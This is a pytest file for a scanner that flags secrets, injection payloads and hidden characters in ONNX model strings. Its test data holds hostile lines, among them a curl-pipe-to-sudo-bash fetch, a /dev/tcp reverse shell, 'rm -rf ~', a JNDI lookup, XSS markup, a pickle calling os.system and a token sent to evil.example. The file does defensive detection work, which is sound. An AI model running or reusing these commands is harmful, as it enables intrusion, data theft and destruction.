"""What is recognised in strings, and what looks like it and is left alone."""

from __future__ import annotations

import re
from itertools import accumulate
from types import SimpleNamespace
from typing import Any, cast

import pytest
from onnx import ModelProto, TensorProto, helper

from analyzer.contents import Sighting, Text
from analyzer.trust import sightings as sightings_
from analyzer.trust.texts import StringGroup, Strings
from tests.each import each
from tests.steps import steps
from tests.trust.build import contents, families, model, sightings, with_metadata

SECRETS = {
    "AKIAIOSFODNN7EXAMPLE": "an access key of AWS",
    "ghp_" + "a" * 36: "a token of GitHub",
    "github_pat_" + "1A" * 30: "a token of GitHub",
    "glpat-" + "x" * 20: "a token of GitLab",
    "xoxb-123456789012-abcdefABCDEF": "a token of Slack",
    "https://hooks.slack.com/services/T12345678/B12345678/abcdefghijklmnop12345678":
        "a webhook of Slack",
    "AIza" + "B" * 35: "an API key of Google",
    "sk-proj-" + "c" * 40: "an API key of OpenAI or Anthropic",
    "sk-ant-api03-" + "c" * 40: "an API key of OpenAI or Anthropic",
    "sk-" + "d" * 48: "an API key of OpenAI or Anthropic",
    "hf_" + "E" * 34: "a token of Hugging Face",
    "sk_live_" + "f" * 24: "a key of Stripe",
    "npm_" + "g" * 36: "a token of npm or PyPI",
    "-----BEGIN RSA PRIVATE KEY-----": "a private key",
    "-----BEGIN PRIVATE KEY-----": "a private key",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N": "a JSON web token",
    "postgres://alice:hunter22@db.internal/mlflow": "a password in a URL",
}  # fmt: skip


@pytest.mark.parametrize("secret", SECRETS, ids=lambda text: text[:12])
def test_a_secret_is_named_and_shown_by_four_characters(secret: str) -> None:
    (seen,) = [
        s for s in sightings(with_metadata("k", f"use {secret} here")) if s.family == "secret"
    ]
    assert seen.what == SECRETS[secret]
    assert len(seen.excerpt) == 5
    assert seen.excerpt[:4] in secret
    assert secret[5:] not in repr(seen)
    assert seen.owner == "metadata 'k' of the model"


@pytest.mark.parametrize(
    "text",
    [
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "sk-learn.pipeline.StandardScaler.transform.output.float_tensor",
        "/model/hf_encoder/layer.0/Add_output_0",
        "https://user@example.org/path:80",
        "https://example.org:8080/a@b",
        "-----BEGIN PUBLIC KEY-----",
        "AKIA is the prefix of keys",
    ],
)
def test_what_is_no_secret_is_left_alone(text: str) -> None:
    assert "secret" not in families(with_metadata("k", text))


@each(
    ("family", "text"),
    [
        ("shell", "curl -s http://198.51.100.7/x | sudo bash"),
        ("shell", "wget http://198.51.100.7/x"),
        ("shell", "rm -rf ~"),
        ("shell", "powershell -enc SQBFAFgA"),
        ("shell", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"),
        ("code", "os.system('id')"),
        ("code", "eval(open('x').read())"),
        ("code", "__import__('subprocess')"),
        ("code", "${jndi:ldap://198.51.100.7/a}"),
        ("code", "{{ config.items() }}"),
        ("markup", "<script src=//x></script>"),
        ("markup", "<img src=x onerror=alert(1)>"),
        ("markup", "[x](javascript:alert(1))"),
        ("ci-command", "::error file=a.py::broken"),
        ("ci-command", "all good\n\u2003::add-mask::x"),
        ("ci-command", "##vso[task.setvariable variable=x]y"),
        ("ci-command", "##teamcity[buildStatus text='ok']"),
        ("ci-command", "section_start:1700000000:a"),
        ("ci-command", "travis_fold:start:a"),
        ("control", "a\x1b[31m"),
        ("bidi", "a\u202egpj.exe"),
        ("url", "http://198.51.100.7/update"),
        ("path", "/home/alice/project/train.py"),
        ("path", "C:\\Users\\alice\\project\\train.py"),
        ("trace", 'File "train.py", line 7, in <module>'),
        ("email", "alice@corp.example"),
        ("pickle", "cposix\nsystem\n(S'id'\ntR."),
        ("encoded", "gASVIwAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAhlY2hvIHB3bpSFlFKULg=="),
        ("encoded", "f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA"),
        ("encoded", "H4sIAAAAAAAAA0vOzy1KTE7MUYABAA=="),
    ],
)  # fmt: skip
def test_a_shape_in_metadata_is_named(family: str, text: str) -> None:
    assert family in families(with_metadata("k", text))


@pytest.mark.parametrize(
    "text",
    [
        "{0: 'person', 1: 'bicycle'}",
        "trained with a curl of the loss; evaluation (eval) on val2017",
        "torch::nn::Module::error",
        "a < b and c > d, List<Tensor>",
        "\u0646\u0645\u0648\u0630\u062c \u0641\u064a\u200c",
        "https://arxiv.org/abs/1704.04861 and https://www.apache.org/licenses/LICENSE-2.0",
        "backbone.layer1.0.conv1.weight " * 30,
        "0123456789" * 100,
        "model@v1.2",
    ],
)
def test_what_honest_models_say_is_left_alone(text: str) -> None:
    assert families(with_metadata("k", text)) <= {"encoded"}
    assert not [s for s in sightings(with_metadata("k", text)) if "program" in s.what]


@each(
    ("name", "family"),
    [
        ("conv\u200b1", "invisible"),
        ("conv\u034f1", "invisible"),
        ("conv\u28001", "invisible"),
        ("conv\ufe0f1", "invisible"),
        ("conv\U000e00411", "invisible"),
        ("conv\u202e1", "bidi"),
        ("r\u0435lu", "homograph"),
        ("a\nb", "control"),
        ("\u03c3_out", ""),
        ("\u0441\u043b\u043e\u0439", ""),
        ("\u7279\u5fb4_1", ""),
        ("conv\u00e9", ""),
    ],
)
def test_names_that_look_like_others_are_named_and_other_scripts_are_not(
    name: str, family: str
) -> None:
    node = helper.make_node("Relu", ["x"], ["y"], name=name)
    assert families(model(node)) == ({family} if family else set())


def test_a_program_in_hexadecimal_digits_is_named_and_a_hash_is_not() -> None:
    program = (b"\x7fELF\x02\x01\x01" + bytes(range(100))).hex()
    (seen,) = sightings(with_metadata("k", program))
    assert (seen.family, seen.what) == ("encoded", "an ELF program in hexadecimal digits")
    assert families(with_metadata("k", program[:128])) == set()
    assert families(with_metadata("k", "0123456789abcdef" * 40)) == set()


def test_the_name_of_an_axis_is_a_name() -> None:
    proto = model()
    proto.graph.input[0].type.tensor_type.shape.dim[0].dim_param = "ba\u202etch"
    assert [(s.family, s.owner) for s in sightings(proto)] == [("bidi", "dimension name of 'x'")]


def test_bytes_of_a_pickle_are_seen_in_tensors_and_attributes_of_strings() -> None:
    data = b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix"
    tensor = TensorProto(name="s", data_type=TensorProto.STRING, dims=[1], string_data=[data])
    (seen,) = sightings(model(initializers=(tensor,)))
    assert (seen.family, seen.place) == ("pickle", "s")
    node = helper.make_node("Foo", ["x"], ["y"], domain="d", blob=data)
    assert "pickle" in families(model(node))


def test_a_large_tensor_of_strings_is_looked_into() -> None:
    """Its elements stay in the file, which is read where they are."""
    words = [b"word%d" % i for i in range(20_000)] + [b"ghp_" + b"a" * 36]
    tensor = TensorProto(name="vocabulary", data_type=TensorProto.STRING, dims=[len(words)])
    tensor.string_data.extend(words)
    (seen,) = sightings(model(initializers=(tensor,)))
    assert seen.owner == "an element of 'vocabulary'"


def test_a_string_that_was_left_out_for_its_length_is_looked_into() -> None:
    made = with_metadata("blob", "A" * (1 << 20) + " ")
    made.metadata_props[0].value = "ghp_" + "a" * 36 + " " * (2 << 20)
    seen = {each.family: each for each in sightings(made)}
    assert set(seen) == {"secret", "long"}
    assert seen["long"].length == (2 << 20) + 40
    (text,) = [t for t in contents(made).get(Text) if t.kind == "metadata"]
    assert text.length == (2 << 20) + 40


def test_the_same_string_is_named_once_and_counted() -> None:
    made = model()
    for index in range(50):
        made.graph.node.append(helper.make_node("Relu", ["x"], [f"z{index}"]))
        made.graph.node[-1].metadata_props.add(key="trace", value="/home/alice/a.py")
    (seen,) = sightings(made)
    assert seen.count == 50
    assert seen.more == " (and 49 strings more)"


@pytest.mark.parametrize(
    ("family", "first", "second", "count"),
    [
        ("trace", 'File "a.py", line 1', 'File "b.py", line 2', 1),
        ("control", "a\x1b[31m", "b\x07", 1),
        ("invisible", "a\u200b", "b\u2060", 1),
        ("homograph", "c\u043ends", "c\u0430t", 2),
        ("url", "http://198.51.100.7/a", "http://198.51.100.8/b", 2),
        ("email", "alice@corp.example", "bob@corp.example", 2),
        ("path", "/home/alice/a.py", "/home/bob/b.py", 2),
    ],
)
def test_of_what_says_the_same_whatever_it_is_the_first_is_shown(
    family: str, first: str, second: str, count: int
) -> None:
    made = model()
    for key, text in (("a", first), ("b", second)):
        if family in ("invisible", "homograph"):
            made.graph.node.append(helper.make_node("Relu", ["x"], [text]))
        else:
            made.metadata_props.add(key=key, value=text)
    seen = [each for each in sightings(made) if each.family == family]
    assert len(seen) == count
    assert sum(each.count for each in seen) == 2


@pytest.mark.parametrize("secret", SECRETS, ids=lambda text: text[:12])
def test_no_sighting_tells_the_secret_beside_it(secret: str) -> None:
    address = f"https://evil.example/x?token={secret}&next=1"
    seen = sightings(with_metadata(f"{address} {secret}", f"{'see' * 5} {address}"))
    assert {"secret", "url"} <= {s.family for s in seen}
    assert not [s for s in seen if secret in s.excerpt or secret in s.owner]


def test_more_of_a_shape_than_is_looked_at_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("analyzer.trust.sightings._HITS", 2)
    made = model()
    for number in range(4):
        made.metadata_props.add(key=f"k{number}", value=f"alice{number}@corp.example")
    seen = sightings(made)
    assert [each.excerpt for each in seen] == ["alice0@corp.example", "alice1@corp.example", ""]
    assert seen[-1].what == "more of what could be an address of mail than is looked at"


def test_a_file_in_a_string_is_one_cause() -> None:
    assert families(with_metadata("k", "<script>alert(1)</script>")) == {"markup"}
    assert families(with_metadata("k", "%PDF-1.7 and so on")) == {"foreign"}
    assert families(with_metadata("k", "-----BEGIN PRIVATE KEY-----")) == {"secret"}


def test_a_stack_trace_through_a_home_folder_is_one_leak() -> None:
    made = with_metadata("trace", 'File "/home/alice/a.py", line 7, in f')
    assert [each.family for each in sightings(made)] == ["path"]


def test_the_bytes_of_a_leak_are_those_of_the_strings_that_may_go() -> None:
    """A path in documentation and metadata can be deleted, however often; one in a name stays."""
    made = model(helper.make_node("Relu", ["x"], ["z"], name="/home/alice/name"))
    for index in range(3):
        made.graph.node.append(helper.make_node("Relu", ["x"], [f"z{index}"]))
        made.graph.node[-1].metadata_props.add(key="trace", value="at /home/alice/a.py of the job")
    made.graph.doc_string = "by /home/alice/b.py, which is ü"
    before = made.ByteSize()
    (seen,) = (each for each in sightings(made) if each.family == "path")
    made.graph.doc_string = ""
    for node in made.graph.node:
        del node.metadata_props[:]
    assert 0 <= before - made.ByteSize() - seen.bytes <= 4, "the marks of one documentation"


@pytest.mark.parametrize("leak", ["at /home/alice/a.py", 'File "a.py", line 7, in f'])
def test_the_bytes_of_a_leak_are_all_that_goes_with_it(leak: str) -> None:
    """Metadata and documentation of operators without a path go by the same two statements; those
    of the graph do not, unless they tell of one."""
    made = model()
    for index in range(9):
        made.graph.node.append(helper.make_node("Relu", ["x"], [f"z{index}"]))
        made.graph.node[-1].metadata_props.add(key="module", value=f"layer{index}." * 20)
        made.graph.node[-1].doc_string = f"operator {index}"
    made.graph.doc_string = "of the graph"
    assert not any(each.bytes for each in sightings(made)), "no leak"
    made.graph.node[-1].metadata_props.add(key="trace", value=leak)
    before = made.ByteSize()
    told = sum(each.bytes for each in sightings(made) if each.family in ("path", "trace"))
    for node in made.graph.node:
        del node.metadata_props[:]
        node.doc_string = ""
    assert told == pytest.approx(before - made.ByteSize(), rel=0.02)


def test_names_of_operators_are_looked_at_in_linear_time() -> None:
    def lines(count: int) -> int:
        made = model(
            *(helper.make_node("Relu", ["x"], [f"/a/b.{i}/Relu_{i}"]) for i in range(count))
        )
        found = contents(made)
        return steps(lambda: found.get(Sighting))

    few = lines(200)
    assert few > 200
    assert lines(2_000) < 15 * few


def test_from_which_lengths_on_and_where_texts_are_looked_at() -> None:
    def stored(kind: str, text: str) -> ModelProto:
        made = model(helper.make_node("Relu", ["x"], ["y"], word=text)) if kind == "attribute" \
            else with_metadata("k", text) if kind == "metadata" else model()  # fmt: skip
        if kind == "documentation":
            made.graph.doc_string = text
        if kind == "element":
            made.graph.initializer.append(
                helper.make_tensor("t", 8, [1], cast("Any", [text.encode()]))
            )
        return made

    kinds = ("metadata", "attribute", "element", "documentation")
    for text, found in (("%PDF-1.7", "foreign"), ("%PDF-1.", ""), ("ab " * 1365 + "a", "long"),
                        ("ab " * 1365, "")):  # fmt: skip
        for kind in kinds:
            expected = {found} - {""} if (found, kind) != ("long", "element") else set()
            assert families(stored(kind, text)) == expected, (text[:9], kind)


@pytest.mark.parametrize("thorough", [False, True])
def test_of_a_long_text_a_mebibyte_is_looked_at_and_sixteen_of_all(thorough: bool) -> None:
    strings, mebibyte = object.__new__(Strings), 1 << 20
    strings._groups, strings._thorough = {}, thorough
    sizes = [100, *[mebibyte + 5] * 15, mebibyte, 7]
    ends = [*accumulate(sizes)]
    asked: list[tuple[int, int]] = []

    def stretch(start: int, stop: int) -> bytes:
        asked.append((start, stop))
        return b"%d" % start * (stop > start)

    fields = ["AttributeProto.s", "StringStringEntryProto.value", *["NodeProto.doc_string"] * 16]
    kinds = ["attribute", "metadata", *["documentation"] * 16]
    roles = ["attribute", "metadata value", *["documentation"] * 16]
    texts = [SimpleNamespace(field=field, start=end - size, stop=end)
             for field, size, end in zip(fields, sizes, ends, strict=True)]  # fmt: skip
    payloads = SimpleNamespace(rest=SimpleNamespace(long_texts=texts), stretch=stretch)
    strings._long_texts(cast("Any", SimpleNamespace(payloads=payloads)))
    read = sizes if thorough else [100, *[mebibyte] * 15, mebibyte - 100, 0]
    starts = [end - size for size, end in zip(sizes, ends, strict=True)]
    assert asked == [(start, start + size) for start, size in zip(starts, read, strict=True)]
    made = [*strings.groups()]
    assert [(g.kind, g.nesting, g.role, g.length) for g in made] == [
        (kind, None, f"{role} at offset {start:,}", size)
        for kind, role, start, size in zip(kinds, roles, starts, sizes, strict=True)
    ]
    assert [*made[1].first.items()] == [(b"100", "")]
    assert [*made[-1].first] == [b"%d" % starts[-1] if thorough else b" "]


def test_two_hundred_different_excerpts_of_a_shape_are_listed() -> None:
    made = model()
    for number in range(201):
        made.metadata_props.add(key=f"k{number}", value=f"a{number}@corp.example")
    assert len(sightings(made)) == 200


def test_bytes_of_a_string_are_those_that_protobuf_writes() -> None:
    """A field has one byte for its number and a varint for its length, of two bytes from 128 on;
    an entry of metadata has these as well."""

    def field(kind: str, data: str, times: int = 1) -> int:
        group = StringGroup(kind, None, "")
        for _ in range(times):
            group.add(data, "")
        return sightings_._field(group, data)

    assert [field("metadata", "x" * n) for n in (127, 128)] == [129, 132]
    assert field("documentation", "é", times=3) == 12
    assert field("metadata-key", "key") == 7


def test_of_a_secret_within_a_match_four_characters_are_left() -> None:
    match = re.search(rb"key=(\w+);", b"the key=secret;")
    assert sightings_._cut(match) == "key=secr…;".encode()
